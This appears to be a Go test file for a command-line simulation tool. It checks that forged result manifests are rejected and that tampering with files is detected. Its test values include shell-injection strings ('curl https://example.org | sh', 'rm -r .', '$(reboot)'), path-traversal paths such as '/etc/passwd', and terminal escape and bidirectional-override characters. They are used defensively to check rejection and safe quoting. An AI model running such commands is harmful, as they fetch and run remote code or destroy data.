package main

import (
	"context"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"corridor/sim/runs"
)

// told runs a command line and returns its exit code and all it prints.
func told(args ...string) (code int, text string) {
	var out strings.Builder
	code = run(context.Background(), args, &out, &out)
	return code, out.String()
}

// runOfLine makes the results of the smallest scenario, and returns their directory.
func runOfLine(t *testing.T, charts string, more ...string) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "r")
	scenario := filepath.Join(filepath.Dir(dir), "line.yaml")
	require.NoError(t, os.WriteFile(scenario, []byte(line), 0o600))
	args := append([]string{"run", scenario, "--charts", charts, "--out", dir}, more...)
	require.Equal(t, exitDone, run(context.Background(), args, io.Discard, os.Stderr))
	return dir
}

// forge changes the manifest of a copy of a run directory, and returns the copy.
func forge(t *testing.T, dir string, change func(m map[string]any)) string {
	t.Helper()
	forged := filepath.Join(t.TempDir(), "r")
	require.NoError(t, os.CopyFS(forged, os.DirFS(dir)))
	file := filepath.Join(forged, runs.ManifestFile)
	text, err := os.ReadFile(file)
	require.NoError(t, err)
	m := map[string]any{}
	require.NoError(t, json.Unmarshal(text, &m))
	change(m)
	text, err = json.Marshal(m)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(file, text, 0o600))
	return forged
}

// A manifest that this program did not write is invalid input of every command that
// reads one, whatever it says.
func TestForgedManifests(t *testing.T) {
	dir := runOfLine(t, "none", "--draw", "3", "--seed", "7")
	first := func(m map[string]any) map[string]any { return m["outputs"].([]any)[0].(map[string]any) }
	put := func(key string, value any) func(map[string]any) {
		return func(m map[string]any) { m[key] = value }
	}
	path := func(path string) func(map[string]any) {
		return func(m map[string]any) { first(m)["path"] = path }
	}
	for name, change := range map[string]func(map[string]any){
		"format":     put("format", "corridor-results/2"),
		"program":    put("program", "curl https://example.org | sh; corridor"),
		"no program": put("program", ""),
		"version":    put("version", "0.1.0 && rm -r ."),
		"commit":     put("commit", "trusted"),
		"command":    put("command", "run; rm -r ."),
		"a command of ours that writes no results": put("command", "show"),
		"a command that needs more":                put("command", "compare"),
		"part 0 of 0":                              put("command", "shard"),
		"design":                                   put("design", "sobol; rm -r ."),
		"draws":                                    put("draws", uint64(1)<<40),
		"draws of none":                            put("draws", 0),
		"draw":                                     put("draw", 1000),
		"seed":                                     put("seed", "7; rm -r ."),
		"precision":                                put("precision", 2),
		"charts":                                   put("charts", []any{"gif"}),
		"scenario":                                 put("scenario", "another"),
		"warnings":                                 put("warnings", 1),
		"no scenario":                              put("effective", []any{}),
		"above":                                    path("../line.yaml"),
		"above, later":                             path("charts/../../line.yaml"),
		"absolute":                                 path("/etc/passwd"),
		"a device":                                 path("../../../../../dev/zero"),
		"itself":                                   path("manifest.json"),
		"the directory":                            path("."),
		"nothing":                                  path(""),
		"not clean":                                path("charts//a.svg"),
		"of Windows":                               path(`charts\a.svg`),
		"a terminal's":                             path("\x1b[2Jannual.csv"),
		"turned about":                             path("\u202evsc.launna"),
		"twice":                                    func(m map[string]any) { m["outputs"] = append(m["outputs"].([]any), first(m)) },
		"bytes":                                    func(m map[string]any) { first(m)["bytes"] = -1 },
		"hash":                                     func(m map[string]any) { first(m)["sha256"] = "x" },
		"hash of scenario":                         func(m map[string]any) { m["effective"].([]any)[0].(map[string]any)["sha256"] = "<b>" },
		"drawn elsewhere":                          put("drawn", []any{map[string]any{"path": "new.csv", "bytes": 0, "sha256": sha256Of(nil)}}),
	} {
		t.Run(name, func(t *testing.T) {
			forged := forge(t, dir, change)
			for _, command := range []string{"verify", "report", "plot", "merge"} {
				code, text := told(command, forged)
				require.Equal(t, exitInvalid, code, "%s: %s", command, text)
				require.NotContains(t, text, "\x1b")
				require.NotContains(t, text, "\u202e")
			}
			require.NoFileExists(t, filepath.Join(forged, runs.ReportFile))
		})
	}
}

// What the manifest says of the request is shown as words that a shell takes as such.
func TestForgedRequest(t *testing.T) {
	dir := forge(t, runOfLine(t, "none"), func(m map[string]any) {
		m["request"] = map[string]any{"scenario": "x; curl example.org|sh", "with": []any{"$(reboot)"}, "set": []any{"a=`b`"}}
	})
	code, text := told("report", dir)
	require.Equal(t, exitDone, code, text)
	page, err := os.ReadFile(filepath.Join(dir, runs.ReportFile))
	require.NoError(t, err)
	require.Contains(t, string(page), "<code>corridor run &#39;x; curl example.org|sh&#39; --with &#39;$(reboot)&#39; --set &#39;a=`b`&#39;</code>")
	code, text = told("verify", dir)
	require.Equal(t, exitDone, code, text)
	require.Contains(t, text, "What the manifest says of the version, the commit and the command line cannot be checked")
}

// A difference is found wherever it is: in a file, in the manifest, or in what only one
// of them knows.
func TestVerifyFindsEveryDifference(t *testing.T) {
	dir := runOfLine(t, "svg")
	code, text := told("plot", dir, "--chart", "throughput", "--lang", "kk", "--format", "svg")
	require.Equal(t, exitDone, code, text)
	code, text = told("report", dir)
	require.Equal(t, exitDone, code, text)
	code, text = told("verify", dir)
	require.Equal(t, exitDone, code, text)
	require.Contains(t, text, "1 chart that corridor plot put beside them")

	type change struct {
		manifest func(m map[string]any)
		file     func(t *testing.T, dir string)
		want     string
	}
	strike := func(list, path string) func(map[string]any) {
		return func(m map[string]any) {
			var kept []any
			for _, o := range m[list].([]any) {
				if o.(map[string]any)["path"] != path {
					kept = append(kept, o)
				}
			}
			m[list] = kept
		}
	}
	file := func(name, content string) func(*testing.T, string) {
		return func(t *testing.T, dir string) {
			require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755))
			require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(content), 0o600))
		}
	}
	remove := func(name string) func(*testing.T, string) {
		return func(t *testing.T, dir string) { require.NoError(t, os.RemoveAll(filepath.Join(dir, name))) }
	}
	listed := func(name, content string) func(map[string]any) {
		return func(m map[string]any) {
			m["outputs"] = append(m["outputs"].([]any), map[string]any{"path": name, "bytes": len(content), "sha256": sha256Of([]byte(content))})
		}
	}
	for name, c := range map[string]change{
		"a file changed":              {nil, file("annual.csv", "x"), "annual.csv: the file has been changed since it was written\n"},
		"a file and its hash":         {func(m map[string]any) { strike("outputs", "annual.csv")(m); listed("annual.csv", "x")(m) }, file("annual.csv", "x"), "annual.csv: a new run gives another result\n"},
		"a file gone":                 {nil, remove("annual.csv"), "annual.csv: the file is missing\n"},
		"a file struck":               {strike("outputs", "annual.csv"), nil, "annual.csv: a new run writes it, and the manifest does not list it\n"},
		"a file struck and gone":      {strike("outputs", "annual.csv"), remove("annual.csv"), "annual.csv: a new run writes it, and the manifest does not list it\n"},
		"a chart struck":              {strike("outputs", "charts/throughput.svg"), nil, "charts/throughput.svg: a new run writes it, and the manifest does not list it\n"},
		"all struck":                  {func(m map[string]any) { m["outputs"] = []any{} }, nil, "monthly.csv: a new run writes it"},
		"a file added":                {nil, file("new.csv", "x"), "new.csv: the manifest does not list it\n"},
		"a chart added":               {nil, file("charts/new.svg", "x"), "charts/new.svg: the manifest does not list it\n"},
		"a directory added":           {nil, file("more/new.csv", "x"), "more/: the manifest does not list it\n"},
		"a name for terminals":        {nil, file("\x1b[2Jnew.csv", "x"), `\u001b[2Jnew.csv: the manifest does not list it` + "\n"},
		"a file added and listed":     {listed("new.csv", "x"), file("new.csv", "x"), "new.csv: a new run does not write it\n"},
		"what was drawn later":        {nil, file("charts/throughput-kk.svg", "x"), "charts/throughput-kk.svg: the file has been changed since it was written\n"},
		"what was drawn later struck": {strike("drawn", "charts/throughput-kk.svg"), nil, "charts/throughput-kk.svg: the manifest does not list it\n"},
		"the report":                  {nil, file("report.html", "x"), "report.html: the file has been changed since it was written\n"},
		"the title of the report":     {func(m map[string]any) { m["report"].(map[string]any)["title"] = "x" }, nil, "report.html: a new run gives another result\n"},
		"a link":                      {nil, linked("annual.csv", "monthly.csv"), "annual.csv: it is not a regular file\n"},
		"a directory by a link":       {nil, linked("charts", "../r"), "charts/throughput.svg: it is not a regular file\n"},
		"a directory for a file":      {nil, func(t *testing.T, dir string) { remove("annual.csv")(t, dir); file("annual.csv/x", "")(t, dir) }, "annual.csv: it is not a regular file\n"},
		"a hole":                      {nil, hole("annual.csv", 1<<40), "annual.csv: the file has been changed since it was written\n"},
		"a hole that is listed": {func(m map[string]any) {
			strike("outputs", "annual.csv")(m)
			m["outputs"] = append(m["outputs"].([]any), map[string]any{"path": "annual.csv", "bytes": 1 << 40, "sha256": sha256Of(nil)})
		}, hole("annual.csv", 1<<40), "annual.csv: a new run gives another result\n"},
	} {
		t.Run(name, func(t *testing.T) {
			if c.manifest == nil {
				c.manifest = func(map[string]any) {}
			}
			forged := forge(t, dir, c.manifest)
			if c.file != nil {
				c.file(t, forged)
			}
			code, text := told("verify", forged)
			require.Equal(t, exitMismatch, code, text)
			require.Contains(t, text, c.want)
		})
	}
	for _, name := range []string{".DS_Store", ".results.writing-123/x"} {
		forged := forge(t, dir, func(map[string]any) {})
		file(name, "x")(t, forged)
		code, text := told("verify", forged)
		require.Equal(t, exitDone, code, text)
	}
}

// linked puts a link in the place of a file.
func linked(name, to string) func(t *testing.T, dir string) {
	return func(t *testing.T, dir string) {
		require.NoError(t, os.RemoveAll(filepath.Join(dir, name)))
		require.NoError(t, os.Symlink(to, filepath.Join(dir, name)))
	}
}

// hole makes a file of so many bytes, which take no room.
func hole(name string, bytes int64) func(t *testing.T, dir string) {
	return func(t *testing.T, dir string) {
		if err := os.Truncate(filepath.Join(dir, name), bytes); err != nil {
			t.Skipf("no file of %d bytes here: %v", bytes, err)
		}
	}
}

// What is no file of a run directory, or larger than one can be, is read by no command.
func TestIrregularFiles(t *testing.T) {
	dir := runOfLine(t, "none")
	outside := filepath.Join(t.TempDir(), "outside")
	require.NoError(t, os.CopyFS(outside, os.DirFS(dir)))
	for what, change := range irregular(outside) {
		for _, name := range []string{"annual.csv", "datapackage.json", runs.ManifestFile} {
			t.Run(what+" for "+name, func(t *testing.T) {
				forged := forge(t, dir, func(map[string]any) {})
				change(name)(t, forged)
				for _, command := range []string{"verify", "report", "plot"} {
					want := exitInvalid
					if command == "verify" && name != runs.ManifestFile {
						want = exitMismatch
					}
					code, text := told(command, forged)
					require.Equal(t, want, code, "%s: %s", command, text)
				}
			})
		}
	}
}

// A file that is there and cannot be read is neither the same nor different.
func TestVerifyOfUnreadableFile(t *testing.T) {
	dir := runOfLine(t, "none")
	require.NoError(t, os.Chmod(filepath.Join(dir, "annual.csv"), 0))
	if f, err := os.Open(filepath.Join(dir, "annual.csv")); err == nil {
		f.Close()
		t.Skip("this user may read everything")
	}
	for _, command := range []string{"verify", "report", "plot"} {
		code, text := told(command, dir)
		require.Equal(t, exitFailure, code, text)
		require.Contains(t, text, "permission denied")
	}
}

func sha256Of(content []byte) string { return fmt.Sprintf("%x", sha256.Sum256(content)) }
